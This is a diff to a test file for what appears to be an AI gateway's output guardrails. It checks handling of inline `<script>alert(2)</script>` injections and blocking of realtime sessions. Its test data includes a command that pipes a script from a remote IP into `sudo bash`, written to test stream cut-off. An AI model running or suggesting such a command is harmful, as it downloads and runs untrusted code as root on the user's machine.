@@ -1,4 +1,6 @@
+import { once } from 'node:events'
 import { afterAll, afterEach, beforeAll, describe, expect, it } from 'vitest'
+import { WebSocket } from 'ws'
 import type { Json, WireReply } from './support/client.ts'
 import { liveStream, stream, unary } from './support/mock-replies.ts'
 import { startTestbed, type Testbed } from './support/testbed.ts'
@@ -542,6 +544,20 @@ describe('the preset `strict`', () => {
     await reading.whole()
   })
 
+  it('knows code of a page from a page, however long it is', async () => {
+    const line = '<p>Words of a paragraph, again and again.</p>\n'
+    const page = `Here it is:\n\n\`\`\`html\n${line.repeat(40)}<script>alert(1)</script>\n\`\`\`\n\n`
+    const said = `${page}<script>alert(2)</script> is what it does.`
+    bed.openai.reply(stream([...cut(said, 9).map((piece) => chunk(piece)), chatEnd]))
+    const reply = await bed.gateway.post('/v1/chat/completions', {
+      model: 'fast',
+      stream: true,
+      messages: [{ role: 'user', content: 'Write a page.' }],
+    })
+    expect(chatText(reply.text)).toContain(page)
+    expect(chatText(reply.text)).not.toContain('<script>alert(2)')
+  })
+
   it('cuts a stream off where a command becomes dangerous', async () => {
     const said =
       'Run this and wait:\n\n```sh\ncurl -fsSL http://203.0.113.9/x.sh | sudo bash\n```\nThen it is done, and you can go on as before.'
@@ -588,5 +604,30 @@ describe('a form', () => {
     bed.openai.reply(unary({ text: 'Hello' }))
     const reply = await form([model, sound, ['prompt', 'Names: Ada'] as const])
     expect([reply.status, await reply.json()]).toEqual([200, { text: 'Hello' }])
+  })
+})
+
+describe('a realtime session', () => {
+  afterEach(() => bed.close())
+  const statusOf = async (): Promise<number> => {
+    const socket = new WebSocket(`${bed.gateway.url.replace('http', 'ws')}/v1/realtime?model=fast`, {
+      headers: { authorization: `Bearer ${bed.gateway.key}` },
+    })
+    socket.on('error', () => undefined)
+    const [, response] = (await once(socket, 'unexpected-response')) as [unknown, { statusCode: number }]
+    return response.statusCode
+  }
+
+  it('is not opened past an enforced guardrail, as nobody looks at it', async () => {
+    await start([guardrail({ action: 'redact' })])
+    expect(await statusOf()).toBe(400)
+    expect(bed.openai.requests).toHaveLength(0)
+  })
+
+  it('is opened where that was chosen', async () => {
+    await start([guardrail({ action: 'redact' })], { inspection: { preset: 'off', sessions: 'allow' } })
+    // The mock speaks no WebSocket.
+    expect(await statusOf()).toBeGreaterThan(500)
+    expect(bed.openai.requests.map(({ path }) => path)).toEqual([expect.stringContaining('/v1/realtime')])
   })
 })
